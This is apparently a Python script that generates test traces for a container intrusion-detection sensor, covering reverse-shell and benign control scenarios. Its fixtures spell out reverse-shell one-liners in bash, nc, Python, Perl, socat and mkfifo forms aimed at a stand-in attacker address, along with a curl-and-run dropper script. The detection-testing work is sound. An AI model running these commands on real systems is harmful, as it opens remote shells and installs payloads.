#!/usr/bin/env python3
"""Writes the example traces in this folder (Ward trace format v1).

Each scenario mirrors what the live sensor records for a real attack or a benign control:
same event kinds, same fields. Run `python3 testdata/traces/gen.py` after editing, then
`WARD_BLESS=1 cargo test -p ward --test replay` to refresh the golden findings, and review
the diff of `*.expected.jsonl` by hand.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = 1_795_255_200 * 10**9  # 2026-11-21T10:00:00Z
NODE = "node-a"

WEB = {
    "id": "3f9a1c2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8",
    "meta": {
        "name": "web",
        "image": "registry.example/shop/web:1.4.2",
        "imageId": "sha256:" + "a1" * 32,
        "labels": {"app": "web", "io.kubernetes.container.name": "web"},
        "created": T0 - 3600 * 10**9,
        "pod": {"name": "web-7d9c5b-x2k4q", "namespace": "shop", "labels": {"app": "web"}},
    },
}
WORKER = {
    "id": "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d",
    "meta": {
        "name": "worker",
        "image": "docker.io/library/python:3.11-slim",
        "imageId": "sha256:" + "b2" * 32,
        "created": T0 - 7200 * 10**9,
    },
}

# Harmless stand-ins listed in testdata/intel/example-feed.txt (hashes of short strings).
PAYLOAD_SHA = "5c0f4d6f0c1b3f6a4a8f1f5b7d3e2c1a0b9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d"
DROPPER_SHA = "1f3e5d7c9b0a2f4e6d8c0b1a3f5e7d9c2b4a6f8e0d1c3b5a7f9e2d4c6b8a0f1e"


class Trace:
    def __init__(self, name, source="testdata/traces/gen.py"):
        self.name = name
        self.lines = [{"type": "header", "format": "ward-trace", "version": 1, "node": NODE, "source": source}]
        self.t = T0

    def tick(self, ms=1):
        self.t += ms * 10**6
        return self.t

    def comment(self, text):
        self.lines.append("// " + text)

    def fork(self, pid, ppid):
        self.lines.append({"type": "fork", "time": self.tick(), "pid": pid, "ppid": ppid})

    def exit(self, pid, code=0):
        self.lines.append({"type": "exit", "time": self.tick(), "pid": pid, "code": code})

    def exec(self, pid, ppid, filename, argv, container=None, binary=None, stdio=None, sha=None,
             layer=None, script=None, cwd="/", uid=0, size=None, stdin_writer=None, env=None,
             env_truncated=False):
        binary = binary or filename
        ev = {
            "type": "exec", "time": self.tick(), "node": NODE, "pid": pid, "tgid": pid, "ppid": ppid,
            "uid": uid, "gid": uid, "comm": os.path.basename(filename)[:15], "filename": filename,
            "binary": {"path": binary, "dev": 66, "inode": 1000 + pid, "size": size or 125_640,
                       "mtime": T0 - 86400 * 10**9, "ctime": T0 - 86400 * 10**9,
                       "layer": layer or ("image" if container else "notOverlay")},
            "argv": argv,
        }
        if env:
            ev["env"] = env
        if env_truncated:
            ev["envTruncated"] = True
        ev["cwd"] = cwd
        ev["stdio"] = stdio or [tty(), tty(), tty()]
        if sha:
            ev["binary"]["sha256"] = sha
            ev["binary"]["hashedSize"] = ev["binary"]["size"]
        if script:
            ev["script"] = script
        if stdin_writer:
            ev["stdinWriter"] = stdin_writer
        if container:
            ev["cgroupId"] = 4242
            ev["containerId"] = container["id"]
            ev["container"] = container["meta"]
        self.lines.append(ev)

    def dup(self, pid, fd, target, via="dup2"):
        self.lines.append({"type": "fd", "time": self.tick(), "pid": pid, "fd": fd, "via": via, "target": target})

    def connect(self, pid, inode, local, remote, op="connect", fd=3):
        self.lines.append({"type": "socket", "time": self.tick(), "pid": pid, "fd": fd, "op": op,
                           "inode": inode, "socket": sock(local, remote)})

    def raw(self, text):
        self.lines.append(("RAW", text))

    def write(self):
        with open(os.path.join(HERE, self.name + ".jsonl"), "w") as f:
            for line in self.lines:
                if isinstance(line, tuple):
                    f.write(line[1] + "\n")
                elif isinstance(line, str):
                    f.write(line + "\n")
                else:
                    f.write(json.dumps(line, separators=(",", ":")) + "\n")


def split(addr):
    host, port = addr.rsplit(":", 1)
    return host.strip("[]"), int(port)


def sock(local, remote, proto="TCP"):
    lh, lp = split(local)
    rh, rp = split(remote)
    return {"protocol": proto, "localIp": lh, "localPort": lp, "remoteIp": rh, "remotePort": rp}


def tcp(inode, local, remote):
    return {"kind": "inetSocket", "inode": inode, "socket": sock(local, remote)}


def udp(inode, local, remote):
    return {"kind": "inetSocket", "inode": inode, "socket": sock(local, remote, "UDP")}


def tty(inode=3):
    return {"kind": "tty", "inode": inode, "path": "/dev/pts/0"}


def fd(kind, inode, path=None):
    d = {"kind": kind, "inode": inode}
    if path:
        d["path"] = path
    return d


DEVNULL = {"kind": "char", "inode": 5, "path": "/dev/null"}
ATTACKER = "203.0.113.9:4444"
LOCAL = "10.88.0.5:51234"


def web_server(t):
    """nginx + a vulnerable CGI handler in the web container: the attacker's entry point."""
    t.exec(100, 1, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], WEB, stdio=[DEVNULL, DEVNULL, DEVNULL])
    t.fork(101, 100)
    t.exec(101, 100, "/usr/lib/cgi-bin/status.cgi", ["status.cgi"], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])


def commands(t, parent, base_pid, stdio, cmds):
    for i, argv in enumerate(cmds):
        pid = base_pid + i
        t.fork(pid, parent)
        t.exec(pid, parent, "/usr/bin/" + argv[0], argv, WEB, stdio=stdio)
        t.exit(pid)


S = tcp(7001, LOCAL, ATTACKER)


def rce_bash_dev_tcp():
    t = Trace("rce-bash-dev-tcp")
    t.comment("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 from a CGI handler, then recon commands")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], WEB,
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.dup(102, 1, S)
    t.dup(102, 2, S)
    t.dup(102, 0, S)
    commands(t, 102, 110, [S, S, S], [["id"], ["whoami"], ["uname", "-a"], ["cat", "/etc/passwd"], ["id"]])
    t.write()


def rce_nc_e():
    t = Trace("rce-nc-e")
    t.comment("nc.traditional 203.0.113.9 4444 -e /bin/sh (Debian netcat-traditional)")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/nc", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"], WEB,
           binary="/usr/bin/nc.traditional", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.connect(102, 7001, LOCAL, ATTACKER)
    t.fork(103, 102)
    t.dup(103, 0, S)
    t.dup(103, 1, S)
    t.dup(103, 2, S)
    t.exec(103, 102, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
    commands(t, 103, 110, [S, S, S], [["id"], ["ls", "-la", "/"]])
    t.write()


def rce_busybox_nc_e():
    t = Trace("rce-busybox-nc-e")
    t.comment("busybox nc 203.0.113.9 4444 -e /bin/sh in a busybox image")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/nc", ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"], WEB, binary="/bin/busybox",
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.connect(102, 7001, LOCAL, ATTACKER)
    t.exec(102, 101, "/bin/sh", ["/bin/sh"], WEB, binary="/bin/busybox", stdio=[S, S, S])
    t.fork(110, 102)
    t.exec(110, 102, "/bin/id", ["id"], WEB, binary="/bin/busybox", stdio=[S, S, S])
    t.write()


def rce_python():
    t = Trace("rce-python-dup2")
    code = ("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
            "os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"])")
    t.comment("python3 -c socket + os.dup2 + subprocess.call(['/bin/sh','-i'])")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/python3", ["python3", "-c", code], WEB, binary="/usr/bin/python3.11",
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
           script={"kind": "inline", "size": len(code), "contents": code})
    t.connect(102, 7001, LOCAL, ATTACKER)
    for n in (0, 1, 2):
        t.dup(102, n, S)
    t.fork(103, 102)
    t.exec(103, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
    commands(t, 103, 110, [S, S, S], [["id"]])
    t.write()

    t = Trace("rce-python-pty")
    code = ("import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")")
    t.comment("python3 -c pty.spawn('/bin/bash') after dup2 of the socket: the shell's stdio is a pty")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/python3", ["python3", "-c", code], WEB, binary="/usr/bin/python3.11",
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
           script={"kind": "inline", "size": len(code), "contents": code})
    t.connect(102, 7001, LOCAL, ATTACKER)
    for n in (0, 1, 2):
        t.dup(102, n, S)
    t.fork(103, 102)
    PTY = tty(9)
    for n in (0, 1, 2):
        t.dup(103, n, PTY)
    t.exec(103, 102, "/bin/bash", ["/bin/bash"], WEB, stdio=[PTY, PTY, PTY])
    commands(t, 103, 110, [PTY, PTY, PTY], [["id"], ["hostname"]])
    t.write()


def rce_perl():
    t = Trace("rce-perl")
    code = ('use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
            'open(STDERR,">&S");exec("/bin/sh -i");};')
    t.comment("perl -e open(STDIN,'>&S') ... exec('/bin/sh -i')")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/perl", ["perl", "-e", code], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
           script={"kind": "inline", "size": len(code), "contents": code})
    t.connect(102, 7001, LOCAL, ATTACKER)
    for n in (0, 1, 2):
        t.dup(102, n, S)
    t.exec(102, 101, "/bin/sh", ["sh", "-c", "/bin/sh -i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
    t.exec(102, 101, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
    commands(t, 102, 110, [S, S, S], [["id"]])
    t.write()


def rce_socat():
    t = Trace("rce-socat")
    t.comment("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/socat", ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane",
                                        "tcp:203.0.113.9:4444"], WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.fork(103, 102)
    PTY = tty(11)
    for n in (0, 1, 2):
        t.dup(103, n, PTY)
    t.exec(103, 102, "/bin/bash", ["bash", "-li"], WEB, stdio=[PTY, PTY, PTY])
    t.connect(102, 7001, LOCAL, ATTACKER)
    commands(t, 103, 110, [PTY, PTY, PTY], [["id"], ["ps", "aux"]])
    t.write()


def rce_mkfifo():
    t = Trace("rce-mkfifo-nc")
    t.comment("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f")
    t.comment("evidence on fds 0-2 (cat opens the FIFO by name on fd 3, which is not visible): the shell")
    t.comment("reads a pipe and writes into nc's stdin pipe; nc holds the connection and writes what the peer")
    t.comment("sends into the FIFO: a loop. Pipe inodes 8802/8803 link the processes.")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"],
           WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    for pid, argv in ((103, ["rm", "/tmp/f"]), (104, ["mkfifo", "/tmp/f"])):
        t.fork(pid, 102)
        t.exec(pid, 102, "/usr/bin/" + argv[0], argv, WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
        t.exit(pid)
    FIFO, P1, P2 = fd("fifo", 8801, "/tmp/f"), fd("pipe", 8802), fd("pipe", 8803)
    for pid in (105, 106, 107):
        t.fork(pid, 102)
    t.exec(105, 102, "/usr/bin/cat", ["cat", "/tmp/f"], WEB, stdio=[DEVNULL, P1, DEVNULL])
    t.exec(106, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[P1, P2, P2])
    t.exec(107, 102, "/usr/bin/nc", ["nc", "203.0.113.9", "4444"], WEB, binary="/usr/bin/nc.openbsd",
           stdio=[P2, FIFO, DEVNULL])
    t.connect(107, 7001, LOCAL, ATTACKER)
    commands(t, 106, 110, [P1, P2, P2], [["id"], ["uname", "-a"]])
    t.write()

    t = Trace("rce-mkfifo-nc-redirect")
    t.comment("rm /tmp/f; mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | /bin/sh -i > /tmp/f 2>&1")
    t.comment("evidence: nc holds the connection and its stdout pipe (8902) is the shell's stdin")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/sh", ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;nc 203.0.113.9 4444 </tmp/f|/bin/sh -i >/tmp/f 2>&1"],
           WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    FIFO, P = fd("fifo", 8901, "/tmp/f"), fd("pipe", 8902)
    for pid in (105, 106):
        t.fork(pid, 102)
    t.exec(106, 102, "/bin/sh", ["/bin/sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[P, FIFO, FIFO])
    t.exec(105, 102, "/usr/bin/nc", ["nc", "203.0.113.9", "4444"], WEB, binary="/usr/bin/nc.traditional",
           stdio=[FIFO, P, DEVNULL])
    t.connect(105, 7001, LOCAL, ATTACKER)
    commands(t, 106, 110, [P, FIFO, FIFO], [["id"], ["ls"]])
    t.write()


def rce_udp():
    t = Trace("rce-udp")
    t.comment("bash -c 'sh -i >& /dev/udp/203.0.113.9/4444 0>&1': a connected UDP socket on the shell's stdin")
    web_server(t)
    U = udp(7101, LOCAL, ATTACKER)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/bash", ["bash", "-c", "sh -i >& /dev/udp/203.0.113.9/4444 0>&1"], WEB,
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    for n in (1, 2, 0):
        t.dup(102, n, U)
    t.exec(102, 101, "/bin/sh", ["sh", "-i"], WEB, binary="/usr/bin/dash", stdio=[U, U, U])
    commands(t, 102, 110, [U, U, U], [["id"], ["hostname"]])
    t.write()


def rce_dev_tcp_into_shell():
    t = Trace("rce-dev-tcp-into-shell")
    t.comment("bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3 | sh 2>&1 >&3' (cat is a transfer, sh reads")
    t.comment("the peer through the pipe) and a blind shell: sh <&3 >/dev/null 2>&1")
    web_server(t)
    P = fd("pipe", 8701)
    t.fork(102, 101)
    t.exec(102, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3 | sh 2>&1 >&3"], WEB,
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.connect(102, 7001, LOCAL, ATTACKER)
    t.fork(103, 102)
    t.fork(104, 102)
    t.dup(103, 1, P)
    t.dup(103, 0, S)
    t.exec(103, 102, "/usr/bin/cat", ["cat"], WEB, stdio=[S, P, DEVNULL])
    t.dup(104, 0, P)
    t.dup(104, 2, fd("pipe", 600))
    t.dup(104, 1, S)
    t.exec(104, 102, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[P, S, fd("pipe", 600)])
    commands(t, 104, 110, [P, S, fd("pipe", 600)], [["id"]])
    B = tcp(7002, "10.88.0.5:51240", ATTACKER)
    t.fork(120, 101)
    t.exec(120, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >/dev/null 2>&1"], WEB,
           stdio=[DEVNULL, fd("pipe", 600), DEVNULL])
    t.connect(120, 7002, "10.88.0.5:51240", ATTACKER)
    t.dup(120, 0, B)
    t.dup(120, 1, DEVNULL)
    t.dup(120, 2, DEVNULL)
    t.exec(120, 101, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[B, DEVNULL, DEVNULL])
    commands(t, 120, 130, [B, DEVNULL, DEVNULL], [["touch", "/tmp/pwned"]])
    t.write()


RELAYS = {
    # name: (comment, filename, binary, argv, connect before the shell starts, shell stdin kind)
    "python": ("python3 -c: socket.connect, then subprocess.Popen(['/bin/sh'], stdin=PIPE, stdout=PIPE,"
               " stderr=STDOUT) and a thread copying socket <-> pipes",
               "/usr/bin/python3", "/usr/bin/python3.11", ["python3", "/tmp/.x/relay.py"], True, "pipe"),
    "perl": ("perl: IO::Socket::INET->new, then IPC::Open2 open2($out, $in, '/bin/sh') and a select() pump",
             "/usr/bin/perl", "/usr/bin/perl", ["perl", "/tmp/.x/relay.pl"], True, "pipe"),
    "ruby": ("ruby: TCPSocket.new, then Open3.popen2e('/bin/sh') and IO.copy_stream threads",
             "/usr/bin/ruby", "/usr/bin/ruby3.1", ["ruby", "/tmp/.x/relay.rb"], True, "pipe"),
    "node": ("node: sh = child_process.spawn('/bin/sh', []) first, then client.connect(4444, H, () =>"
             " { client.pipe(sh.stdin); sh.stdout.pipe(client) }); libuv gives the child an AF_UNIX"
             " socketpair, not a pipe (the agent finds its other end through sock_diag)",
             "/usr/bin/node", "/usr/bin/node", ["node", "-e", "(function(){...})()"], False, "unixSocket"),
    "java": ("java (Log4Shell-style payload class): Runtime.getRuntime().exec('/bin/sh') first, then"
             " new Socket(H, 4444) and two stream-pump threads",
             "/opt/java/openjdk/bin/java", "/opt/java/openjdk/bin/java", ["java", "-jar", "/app/app.jar"],
             False, "pipe"),
    "go": ("a Go binary: net.Dial, then exec.Command('/bin/sh') with StdinPipe/StdoutPipe and io.Copy",
           "/tmp/.x/agent", "/tmp/.x/agent", ["/tmp/.x/agent"], True, "pipe"),
}


def rce_relays():
    for name, (comment, filename, binary, argv, connect_first, kind) in RELAYS.items():
        t = Trace("rce-relay-" + name)
        t.comment(comment)
        t.comment("evidence: the shell is interactive (no -c, no script), its stdin is a pipe whose other end the")
        t.comment("relay (its parent, stdinWriter) holds, and the relay holds a connection to a remote peer")
        web_server(t)
        t.fork(102, 101)
        t.exec(102, 101, filename, argv, WEB, binary=binary, stdio=[DEVNULL, fd("pipe", 600), DEVNULL],
               layer="added" if name == "go" else None)
        if connect_first:
            t.connect(102, 7001, LOCAL, ATTACKER)
        IN, OUT = fd(kind, 8601), fd(kind, 8602)
        t.fork(103, 102)
        for n, target in ((0, IN), (1, OUT), (2, OUT)):
            t.dup(103, n, target)
        t.exec(103, 102, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[IN, OUT, OUT],
               stdin_writer=102)
        if not connect_first:
            t.connect(102, 7001, LOCAL, ATTACKER, fd=17)
        commands(t, 103, 110, [IN, OUT, OUT], [["id"], ["cat", "/etc/shadow"]])
        t.write()


def benign_transfers():
    t = Trace("benign-dev-tcp-transfers")
    t.comment("controls that must produce no finding: an image's health check and a download over bash's")
    t.comment("/dev/tcp, and a server running `sh -c` on pipes")
    web_server(t)
    HC = tcp(7201, "10.88.0.5:52000", "10.88.0.7:8080")
    PIPE = fd("pipe", 600)
    t.comment("bash -c 'exec 3<>/dev/tcp/10.88.0.7/8080; printf \"GET /health HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3 >/dev/null'")
    t.comment("printf is a builtin: fd 1 is the socket for a moment, then restored; cat, the last command, is")
    t.comment("exec'd in place after its redirections")
    t.fork(102, 101)
    t.exec(102, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.88.0.7/8080; printf \"GET /health HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3 >/dev/null"],
           WEB, stdio=[DEVNULL, PIPE, DEVNULL])
    t.connect(102, 7201, "10.88.0.5:52000", "10.88.0.7:8080")
    t.dup(102, 1, HC, via="dup2")
    t.dup(102, 1, PIPE, via="dup2")
    t.dup(102, 0, HC)
    t.dup(102, 1, DEVNULL)
    t.exec(102, 101, "/usr/bin/cat", ["cat"], WEB, stdio=[HC, DEVNULL, DEVNULL])
    t.exit(102)
    DL = tcp(7202, "10.88.0.5:52002", "10.88.0.7:8080")
    FILE = {"kind": "file", "inode": 9100, "path": "/tmp/app.tar.gz"}
    t.comment("bash -c 'exec 3<>/dev/tcp/10.88.0.7/8080; echo -e \"GET /app.tar.gz ...\" >&3; read -r status <&3;")
    t.comment("cat <&3 > /tmp/app.tar.gz; echo done': read is a builtin (fd 0 for a moment), cat is forked")
    t.fork(104, 101)
    t.exec(104, 101, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.88.0.7/8080; echo -e \"GET /app.tar.gz HTTP/1.0\\r\\n\" >&3; read -r status <&3; cat <&3 > /tmp/app.tar.gz; echo done"],
           WEB, stdio=[DEVNULL, PIPE, DEVNULL])
    t.connect(104, 7202, "10.88.0.5:52002", "10.88.0.7:8080")
    t.dup(104, 1, DL)
    t.dup(104, 1, PIPE)
    t.dup(104, 0, DL)
    t.dup(104, 0, DEVNULL)
    t.fork(105, 104)
    t.dup(105, 0, DL)
    t.dup(105, 1, FILE)
    t.exec(105, 104, "/usr/bin/cat", ["cat"], WEB, stdio=[DL, FILE, DEVNULL])
    t.exit(105)
    t.exit(104)
    t.comment("node server.js: child_process.exec('ls /srv/uploads') while it holds a client connection")
    t.fork(106, 101)
    t.exec(106, 101, "/usr/bin/node", ["node", "server.js"], WEB, stdio=[DEVNULL, PIPE, DEVNULL])
    t.connect(106, 7203, "10.88.0.5:8080", "198.51.100.20:40000", op="accept")
    t.fork(107, 106)
    SP0, SP1 = fd("unixSocket", 8501), fd("unixSocket", 8502)
    t.exec(107, 106, "/bin/sh", ["/bin/sh", "-c", "ls /srv/uploads"], WEB, binary="/usr/bin/dash",
           stdio=[SP0, SP1, SP1], stdin_writer=106)
    t.fork(108, 107)
    t.exec(108, 107, "/usr/bin/ls", ["ls", "/srv/uploads"], WEB, stdio=[SP0, SP1, SP1])
    t.write()


def benign_sessions():
    t = Trace("benign-sessions")
    t.comment("controls that must produce no finding")
    t.comment("1. kubectl exec -it: an interactive shell on a pty, running commands")
    t.exec(200, 1, "/bin/bash", ["bash"], WEB)
    commands(t, 200, 210, [tty(), tty(), tty()], [["id"], ["ls", "/"], ["cat", "/etc/os-release"]])
    t.comment("2. a local pipeline: ps aux | grep nginx | wc -l")
    P1, P2 = fd("pipe", 9101), fd("pipe", 9102)
    for pid in (220, 221, 222):
        t.fork(pid, 200)
    t.exec(220, 200, "/usr/bin/ps", ["ps", "aux"], WEB, stdio=[tty(), P1, tty()])
    t.exec(221, 200, "/usr/bin/grep", ["grep", "nginx"], WEB, stdio=[P1, P2, tty()])
    t.exec(222, 200, "/usr/bin/wc", ["wc", "-l"], WEB, stdio=[P2, tty(), tty()])
    t.comment("3. ssh host 'uptime' without a pty: stdio is an AF_UNIX socketpair from sshd")
    U = fd("unixSocket", 9201)
    t.exec(300, 1, "/bin/bash", ["bash", "-c", "uptime"], stdio=[U, U, U])
    t.fork(301, 300)
    t.exec(301, 300, "/usr/bin/uptime", ["uptime"], stdio=[U, U, U])
    t.comment("4. an inetd-style service (sshd -i): its stdio is the accepted TCP socket by design")
    A = tcp(9301, "10.88.0.1:22", "198.51.100.7:60022")
    t.exec(400, 1, "/usr/sbin/sshd", ["sshd", "-i"], stdio=[A, A, A])
    t.fork(401, 400)
    t.exec(401, 400, "/bin/bash", ["bash", "-c", "id"], stdio=[A, A, A])
    t.fork(402, 401)
    t.exec(402, 401, "/usr/bin/id", ["id"], stdio=[A, A, A])
    t.comment("5. openssl s_client piped into grep: network data is read, nothing is executed")
    P3 = fd("pipe", 9401)
    t.fork(500, 200)
    t.fork(501, 200)
    t.exec(500, 200, "/usr/bin/openssl", ["openssl", "s_client", "-connect", "example.org:443"], WEB,
           stdio=[DEVNULL, P3, tty()])
    t.connect(500, 9402, "10.88.0.5:40001", "192.0.2.10:443")
    t.exec(501, 200, "/usr/bin/grep", ["grep", "-i", "subject"], WEB, stdio=[P3, tty(), tty()])
    t.comment("6. a compiler on the host (not in a container)")
    t.exec(600, 1, "/usr/bin/gcc", ["gcc", "-O2", "-o", "/tmp/hello", "/tmp/hello.c"], binary="/usr/bin/x86_64-linux-gnu-gcc-12")
    t.comment("7. a web server talking to clients: sockets on fd 3+ only, no commands")
    t.exec(700, 1, "/usr/sbin/nginx", ["nginx"], WEB, stdio=[DEVNULL, DEVNULL, DEVNULL])
    t.connect(700, 9501, "10.88.0.5:8080", "198.51.100.20:55000", op="accept")
    t.write()


def compilers():
    t = Trace("compiler")
    t.comment("gcc compiling an exploit in the web container: the driver and its helpers fold into one finding")
    web_server(t)
    t.fork(102, 101)
    t.exec(102, 101, "/usr/bin/gcc", ["gcc", "-static", "-o", "/tmp/x", "/tmp/x.c"], WEB,
           binary="/usr/bin/x86_64-linux-gnu-gcc-12", stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
    for pid, path, argv in (
        (103, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", ["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "/tmp/x.c", "-o", "/tmp/cc1.s"]),
        (104, "/usr/bin/x86_64-linux-gnu-as", ["as", "--64", "-o", "/tmp/cc2.o", "/tmp/cc1.s"]),
        (105, "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2", ["/usr/libexec/gcc/x86_64-linux-gnu/12/collect2", "-static", "-o", "/tmp/x"]),
    ):
        t.fork(pid, 102)
        t.exec(pid, 102, path, argv, WEB, stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
        if pid == 105:
            t.fork(106, 105)
            t.exec(106, 105, "/usr/bin/ld", ["/usr/bin/ld", "-static", "-o", "/tmp/x"], WEB,
                   binary="/usr/bin/x86_64-linux-gnu-ld.bfd", stdio=[DEVNULL, fd("pipe", 600), DEVNULL], cwd="/tmp")
            t.exit(106)
        t.exit(pid)
    t.comment("tcc -run in the worker container")
    t.exec(300, 1, "/usr/bin/tcc", ["tcc", "-run", "/work/probe.c"], WORKER)
    t.comment("go build in the worker container; `go version` is not a build")
    t.exec(301, 1, "/usr/local/go/bin/go", ["go", "version"], WORKER)
    t.exec(302, 1, "/usr/local/go/bin/go", ["go", "build", "-o", "/tmp/agent", "."], WORKER)
    t.write()


def malicious_binaries():
    t = Trace("malicious-binary")
    t.comment("binaries whose sha256 is in testdata/intel/example-feed.txt (harmless stand-ins)")
    t.comment("Built in: shipped in the image (overlay lower layer)")
    t.exec(100, 1, "/usr/local/bin/ward-test-payload", ["ward-test-payload", "--beacon"], WEB, sha=PAYLOAD_SHA, layer="image")
    t.exec(101, 1, "/usr/local/bin/ward-test-payload", ["ward-test-payload", "--beacon"], WEB, sha=PAYLOAD_SHA, layer="image")
    t.comment("Added: written after the container started (upper layer only)")
    t.exec(102, 1, "/tmp/.x/kworker", ["kworker"], WORKER, sha=PAYLOAD_SHA, layer="added")
    t.comment("Modified: an image binary overwritten in place (copied up)")
    t.exec(103, 1, "/usr/bin/top", ["top", "-b"], WORKER, sha=PAYLOAD_SHA, layer="modified")
    t.comment("a shebang script whose hash is in the feed")
    body = "#!/bin/sh\ncurl -s http://198.51.100.66/x -o /tmp/.x/kworker && chmod +x /tmp/.x/kworker && /tmp/.x/kworker\n"
    t.exec(104, 1, "/tmp/update.sh", ["/bin/sh", "/tmp/update.sh"], WORKER, binary="/usr/bin/dash", sha="0" * 63 + "1",
           script={"kind": "shebang", "path": "/tmp/update.sh", "size": len(body), "sha256": DROPPER_SHA,
                   "contents": body, "layer": "added"})
    t.comment("controls: an image binary not in the feed, and one without a hash")
    t.exec(105, 1, "/usr/bin/env", ["env"], WEB, sha="e" * 64, layer="image")
    t.exec(106, 1, "/usr/bin/true", ["true"], WEB, layer="image")
    t.write()


def drift():
    t = Trace("drift")
    t.comment("binaries not from the image; reported only with [detectors.added_binary] enabled = true")
    t.exec(100, 1, "/tmp/busybox", ["busybox", "ash"], WORKER, sha="c" * 64, layer="added")
    t.exec(101, 1, "/memfd:payload (deleted)", ["payload"], WORKER, layer="memfd")
    t.exec(102, 1, "/usr/bin/env", ["env"], WORKER, sha="e" * 64, layer="image")
    t.write()


def python_scripts():
    t = Trace("python-scripts")
    t.comment("python script capture: a file, a -c literal and a shebang script (scored once a model is loaded)")
    body = "import requests\nprint(requests.get('http://localhost:8080/healthz').status_code)\n"
    t.exec(100, 1, "/usr/local/bin/python3", ["python3", "/app/health.py"], WORKER, binary="/usr/local/bin/python3.11",
           script={"kind": "file", "path": "/app/health.py", "size": len(body), "sha256": "d" * 64, "contents": body, "layer": "image"})
    code = "import os;print(os.getpid())"
    t.exec(101, 1, "/usr/local/bin/python3", ["python3", "-c", code], WORKER, binary="/usr/local/bin/python3.11",
           script={"kind": "inline", "size": len(code), "contents": code})
    t.write()


def rules():
    t = Trace("rules")
    t.comment("detection rules (rules/*.toml) through the engine: several rule categories, and look-alikes that stay quiet")
    web_server(t)
    t.comment("Unexpected Child Shell: the CGI handler's nginx worker runs a shell (twice: one finding, count 2)")
    t.fork(110, 100)
    t.exec(110, 100, "/bin/sh", ["/bin/sh", "-c", "id"], WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 601), DEVNULL])
    t.exit(110)
